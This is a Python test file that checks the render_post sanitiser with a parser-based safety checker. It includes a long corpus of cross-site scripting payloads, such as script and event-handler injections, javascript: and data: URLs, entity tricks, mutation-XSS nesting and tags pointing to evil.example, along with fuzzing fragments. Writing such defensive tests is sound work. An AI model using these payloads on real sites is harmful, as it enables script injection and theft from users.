"""render_post must never let script, styling or foreign markup through, whatever it is fed.

The output is checked by parsing it, not by searching it for strings: every tag is on the
allow-list, every element is closed in order, no attribute can run script or restyle the page
and every link goes to http, https, mailto or a relative address.
"""

from __future__ import annotations

import re
import unicodedata
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tandem.writing.markup import ALLOWED_TAGS, render_post

VOID = {"br", "hr"}
OWN_CLASSES = {"span": "dialogue", "hr": "scene-break"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "cite", "background", "poster", "data"}
SAFE_SCHEMES = {"http", "https", "mailto"}


class OutputParser(HTMLParser):
    """Records every tag and complains about anything a sanitised post must not contain."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.stack: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.max_depth = 0
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag not on the allow-list: <{tag}>")
        for name, value in attrs:
            self._check_attribute(tag, name, value)
        if tag not in VOID:
            self.stack.append(tag)
            self.max_depth = max(self.max_depth, len(self.stack))

    def handle_startendtag(self, tag, attrs):
        self.problems.append(f"self-closing syntax: <{tag}/>")
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if tag in VOID:
            self.problems.append(f"end tag for a void element: </{tag}>")
        elif not self.stack or self.stack[-1] != tag:
            self.problems.append(f"</{tag}> closes {self.stack[-1:] or 'nothing'}")
        else:
            self.stack.pop()

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.problems.append(f"comment: {data!r}")

    def handle_decl(self, decl):
        self.problems.append(f"declaration: {decl!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction: {data!r}")

    def unknown_decl(self, data):
        self.problems.append(f"unknown declaration: {data!r}")

    def _check_attribute(self, tag: str, name: str, value: str | None) -> None:
        if name.startswith("on"):
            self.problems.append(f"event handler {name} on <{tag}>")
        if name == "style":
            self.problems.append(f"style attribute on <{tag}>")
        if name == "class" and value != OWN_CLASSES.get(tag):
            self.problems.append(f"class={value!r} on <{tag}>")
        if name in URL_ATTRIBUTES:
            scheme = url_scheme(value or "")
            if scheme is not None and scheme not in SAFE_SCHEMES:
                self.problems.append(f"{name} with scheme {scheme!r} on <{tag}>")
        if name == "rel" and tag == "a" and value != "nofollow ugc":
            self.problems.append(f"rel={value!r}")

    def close(self):
        super().close()
        if self.stack:
            self.problems.append(f"left open: {self.stack}")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would see: whitespace and control characters anywhere ignored."""
    squeezed = "".join(
        ch for ch in value if not ch.isspace() and unicodedata.category(ch) not in {"Cc", "Cf"}
    ).lower()
    match = re.match(r"([a-z][a-z0-9+.\-]*):", squeezed)
    return match.group(1) if match else None


def parse_output(html: str) -> OutputParser:
    parser = OutputParser()
    parser.feed(html)
    parser.close()
    return parser


def assert_safe(html: str) -> OutputParser:
    """Fail unless the HTML is well-formed and holds nothing dangerous; return the parse."""
    parsed = parse_output(html)
    assert parsed.problems == [], (parsed.problems, html)
    # Every "<" starts a real tag: anything else a browser might read as markup is escaped.
    stray = re.findall(r"<(?![a-z]|/[a-z]).{0,20}", html)
    assert stray == [], (stray, html)
    for needle in ("<script", "<style", "<iframe", "<svg", "<math", "<img", "<!--"):
        assert needle not in html.lower(), (needle, html)
    if any(tag == "a" for tag, _ in parsed.tags):
        assert all(attrs.get("rel") == "nofollow ugc" for tag, attrs in parsed.tags if tag == "a")
    return parsed


# ---------------------------------------------------------------------------- the corpus

PAYLOADS = [
    # script tags, in many casings and spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=//evil.example/x.js></script>",
    "<<script>script>alert(1)<</script>/script>",
    "text before\n\n<script>\nalert(1)\n</script>\n\ntext after",
    "<script src='data:text/javascript,alert(1)'></script>",
    # event handlers on allowed tags
    '<b onclick="alert(1)">bold</b>',
    "<i onmouseover=alert(1)>it</i>",
    "<p ONLOAD='alert(1)'>para</p>",
    '<span onfocus="alert(1)" tabindex=0 autofocus>x</span>',
    '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
    '<a href="https://ok.example" onclick="steal()">link</a>',
    "<b/onclick=alert(1)>slash-separated</b>",
    '<b title="x" onclick=alert(1) title2=">">quoted gt</b>',
    # hostile link targets
    '<a href="javascript:alert(1)">js</a>',
    '<a href="JaVaScRiPt:alert(1)">mixed case</a>',
    '<a href="&#106;avascript:alert(1)">decimal entity</a>',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">hex entity</a>',
    '<a href="java\tscript:alert(1)">tab inside</a>',
    '<a href="java&#x09;script:alert(1)">encoded tab</a>',
    '<a href="  \n javascript:alert(1)">leading space</a>',
    '<a href="\x01javascript:alert(1)">control char</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="file:///etc/passwd">file</a>',
    '<a href="https://ok.example" target="_blank" rel="opener">target</a>',
    "[md link](javascript:alert(1))",
    "[md link](JAVASCRIPT:alert(1))",
    "[md link](data:text/html,<b>x</b>)",
    "[md link](vbscript:msgbox)",
    '[md link](https://ok.example "title\\" onmouseover=\\"alert(1)")',
    "[ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<https://ok.example/a?b=<script>>",
    "![img](https://evil.example/x.png)",
    "![img](javascript:alert(1))",
    # tags that never belong in a post
    "<svg onload=alert(1)><circle r=5></circle></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name=p><button>go</button></form>',
    "<style>body { display: none }</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<img src=x onerror=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    # styling from users
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">cover</span>',
    '<p style="background:url(javascript:alert(1))">bg</p>',
    '<b class="admin-badge" id="nav">classy</b>',
    '<span class="dialogue">not from the user</span>',
    '<hr class="scene-break" style="height:9999px">',
    # comments and markup declarations trying to break out
    "<!-- --><script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<!-- <b>hidden</b> --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    # mutation-XSS shaped nesting
    "<p><svg><style><img src=x onerror=alert(1)></style></svg></p>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    '<b><table><td><a href="javascript:alert(1)">cell</a></td></table></b>',
    '<select><template><style><img src=x onerror="alert(1)"></style></template></select>',
    '<a title="</a><script>alert(1)</script>">attr holds a tag</a>',
    "<b title='<img src=x onerror=alert(1)>'>single-quoted</b>",
    '<span title="x"<script>alert(1)</script>',
    '<b foo"bar><script>alert(1)</script>">odd attribute name</b>',
    # markdown around raw HTML
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "* <iframe src=x>\n* <b onclick=x>item</b>",
    "**<img src=x onerror=alert(1)>**",
]


def test_the_corpus_is_big_enough():
    assert len(PAYLOADS) >= 40
    assert len(set(PAYLOADS)) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    assert_safe(render_post(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised_inside_a_paragraph(payload):
    assert_safe(render_post(f"❛ She read it aloud: {payload} ❜ and frowned.\n\n{payload}"))


def test_escaped_tags_stay_visible_as_text():
    parsed = assert_safe(render_post("<script>alert(1)</script>"))
    assert "".join(parsed.text).strip() == "<script>alert(1)</script>"


def test_links_keep_only_safe_targets():
    html = render_post(
        "[a](https://ok.example/x) [b](mailto:me@ok.example) [c](/relative) "
        '<a href="javascript:alert(1)">d</a>'
    )
    parsed = assert_safe(html)
    hrefs = [attrs.get("href") for tag, attrs in parsed.tags if tag == "a"]
    assert hrefs == ["https://ok.example/x", "mailto:me@ok.example", "/relative", None]


def test_checker_catches_what_it_should():
    """The checker itself must fail on the things it is meant to catch."""
    bad = [
        "<script>x</script>",
        '<b onclick="x">b</b>',
        '<a href="java\tscript:x">a</a>',
        '<span style="color:red">s</span>',
        '<span class="evil">s</span>',
        "<b><i>misnested</b></i>",
        "<b>unclosed",
        "<!-- c -->",
    ]
    for html in bad:
        with pytest.raises(AssertionError):
            assert_safe(html)


# ---------------------------------------------------------------------------- fuzzing

FRAGMENTS = [
    "<",
    ">",
    "</",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?",
    '"',
    "'",
    "=",
    "&",
    "&#106;",
    "&#x09;",
    "&lt;",
    "\n",
    "\n\n",
    "\t",
    "\x00",
    "\u200b",
    "\u202e",
    "`",
    "```",
    "~~~",
    "---",
    "> ",
    "* ",
    "1. ",
    "*",
    "_",
    "~~",
    "[",
    "](",
    ")",
    "❛",
    "❜",
    "“",
    "”",
    "<script>",
    "</script>",
    "<script",
    "<style>",
    "<svg>",
    "<math>",
    "<iframe",
    "<img src=x ",
    "onerror=",
    "onclick=alert(1)",
    " style=position:fixed",
    " class=x",
    "javascript:",
    "java\tscript:",
    "data:text/html,",
    "<a href=",
    "<a href='javascript:alert(1)'>",
    "</a>",
    "<b>",
    "</b>",
    "<b ",
    "<i>",
    "<p>",
    "</p>",
    "<blockquote>",
    "</blockquote>",
    "<details>",
    "<summary>",
    "<ruby>",
    "<rt>",
    "<li>",
    "<ul>",
    "<center>",
    "<tt>",
    "<code>",
    "<pre>",
    "<span title='",
    "<marquee>",
    "<table><td>",
    "<select>",
    "<noscript>",
    "<textarea>",
    "<template>",
]

post_text = st.lists(st.one_of(st.text(max_size=20), st.sampled_from(FRAGMENTS)), max_size=40).map(
    "".join
)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(post_text)
def test_fuzzed_posts_render_safe_well_formed_html(body):
    assert_safe(render_post(body))
